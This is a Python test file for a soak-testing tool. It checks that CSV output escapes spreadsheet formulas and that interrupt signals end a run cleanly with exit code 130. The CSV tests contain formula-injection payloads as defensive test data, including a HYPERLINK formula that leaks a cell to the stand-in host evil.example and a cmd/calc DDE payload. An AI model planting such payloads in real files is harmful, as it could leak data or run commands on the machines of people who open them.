"""Issue 32, class "Signals": every signal that ends a terminal or supervised
session ends the run as an operator interrupt (exit 130, summary.json and
junit.xml written), and no CSV cell is ever a formula a spreadsheet would run.

Invariants and where they are held:
- ``soak.run.signals.INTERRUPT_SIGNALS``: the one list the run loop handles and
  the guardian ignores;
- ``soak.csvcell.cell``: the one cell function every CSV writer uses.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from soak.csvcell import TRIGGERS, cell, needs_escape, rows_to_csv, unescape
from soakrun_helpers import small_config, soak_cmd, wait_for, wait_for_load, write_config

HERE = Path(__file__).parent


# --- CSV cells ------------------------------------------------------------------------------------

_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40)
_formulaish = st.builds(lambda t, rest: t + rest, st.sampled_from(sorted(TRIGGERS) + [" =", "  @"]), _text)


def _read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _starts_with_trigger(text: str) -> bool:
    stripped = text.lstrip(" ")
    return bool(stripped) and stripped[0] in TRIGGERS


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(st.one_of(_text, _formulaish, st.integers(), st.floats(allow_nan=False), st.none()),
                         min_size=1, max_size=5), min_size=1, max_size=5))
def test_no_cell_read_back_is_a_formula_and_every_cell_round_trips(rows):
    back = _read_back(rows_to_csv(rows))
    assert len(back) == len(rows)
    for row, got in zip(rows, back):
        assert len(got) == len(row)
        for value, text in zip(row, got):
            original = "" if value is None else str(value)
            # A spreadsheet reads text as a formula only from its first character (after spaces);
            # a plain number is a value, not a formula.
            assert not _starts_with_trigger(text) or not needs_escape(text), (value, text)
            assert unescape(text) == original


@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil/?x="&A1,"0.11.2")', "+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"])
def test_the_listed_payloads_are_text(payload):
    assert cell(payload) == "'" + payload
    assert cell("-1.5") == "-1.5" and cell("+3e-4") == "+3e-4"  # numbers stay numbers


# --- a real history over a run whose server calls itself a formula --------------------------------


@pytest.fixture
def server_proc():
    started: list[subprocess.Popen] = []

    def start(cmd: list[str]) -> subprocess.Popen:
        proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, start_new_session=True)
        started.append(proc)
        return proc

    yield start
    for proc in started:
        if proc.poll() is None:
            proc.kill()
        proc.wait(timeout=10)


def test_history_csv_escapes_a_formula_version_of_a_real_run(tmp_path, server_proc):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"0.11.2")'
    port_file = tmp_path / "port"
    server_proc([sys.executable, str(HERE / "versioned_server.py"), formula, str(port_file)])
    wait_for(port_file.exists, 20, "the server's port")
    url = f"http://127.0.0.1:{port_file.read_text().strip()}"
    config = small_config(duration="2s", probes={"gpu": {"kind": "none"}},
                          workload={"tokenizer": {"kind": "estimate"}, "output_tokens": 3})
    config["target"] = {"kind": "attached", "base_url": url, "startup_timeout": "10s"}
    runs = tmp_path / "runs"
    run = subprocess.run(soak_cmd("run", str(write_config(tmp_path / "run.yaml", config)), "--out",
                                  str(runs / "night1"), "--no-html"),
                         capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert run.returncode in (0, 1, 99), run.stderr
    summary = json.loads((runs / "night1" / "summary.json").read_text())
    assert summary["build"]["vllm_version"] == formula, "the run must have recorded the server's version"

    hist = subprocess.run(soak_cmd("history", str(runs), "--out", str(tmp_path / "hist")),
                          capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert hist.returncode == 0, hist.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "hist" / "history.csv").read_text(), newline="")))
    assert rows, "history.csv lists the run"
    assert rows[0]["vllm_version"] == "'" + formula
    for row in rows:
        for value in row.values():
            assert not _starts_with_trigger(value) or not needs_escape(value), row


# --- SIGHUP ends the run as SIGTERM does ------------------------------------------------------------


def test_every_interrupt_signal_is_handled_by_the_loop_and_ignored_by_the_guardian():
    from soak.run.signals import INTERRUPT_SIGNALS

    assert {signal.SIGINT, signal.SIGTERM, signal.SIGHUP} <= set(INTERRUPT_SIGNALS)


@pytest.mark.parametrize("sig", [signal.SIGHUP, signal.SIGTERM])
def test_a_signal_to_a_real_soak_run_ends_it_with_130_summary_and_junit(tmp_path, sig):
    config = write_config(tmp_path / "run.yaml", small_config(duration="60s"))
    run_dir = tmp_path / "run"

    def default_action() -> None:
        # A suite started under nohup passes SIGHUP on ignored, and the harness keeps an
        # inherited ignore on purpose (test_a_nohup_run_outlives_a_sighup): this test is
        # about a harness that was not started so.
        signal.signal(sig, signal.SIG_DFL)

    proc = subprocess.Popen(soak_cmd("run", str(config), "--out", str(run_dir), "--no-html"),
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                            text=True, env={**os.environ, "PYTHONUNBUFFERED": "1"}, preexec_fn=default_action)
    try:
        wait_for_load(run_dir)
        time.sleep(0.5)
        proc.send_signal(sig)
        _, stderr = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 130, stderr
    summary = json.loads((run_dir / "summary.json").read_text())
    assert summary["verdict"] == "aborted"
    assert (run_dir / "junit.xml").exists()
    assert sig.name in stderr


def test_a_nohup_run_outlives_a_sighup(tmp_path):
    """Started with SIGHUP ignored (``nohup soak run``), a SIGHUP changes nothing."""
    config = write_config(tmp_path / "run.yaml", small_config(duration="3s"))
    run_dir = tmp_path / "run"

    def ignore_hup() -> None:
        signal.signal(signal.SIGHUP, signal.SIG_IGN)

    proc = subprocess.Popen(soak_cmd("run", str(config), "--out", str(run_dir), "--no-html"),
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                            text=True, preexec_fn=ignore_hup)
    try:
        wait_for_load(run_dir)
        proc.send_signal(signal.SIGHUP)
        _, stderr = proc.communicate(timeout=90)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, stderr
    assert json.loads((run_dir / "summary.json").read_text())["verdict"] == "pass"
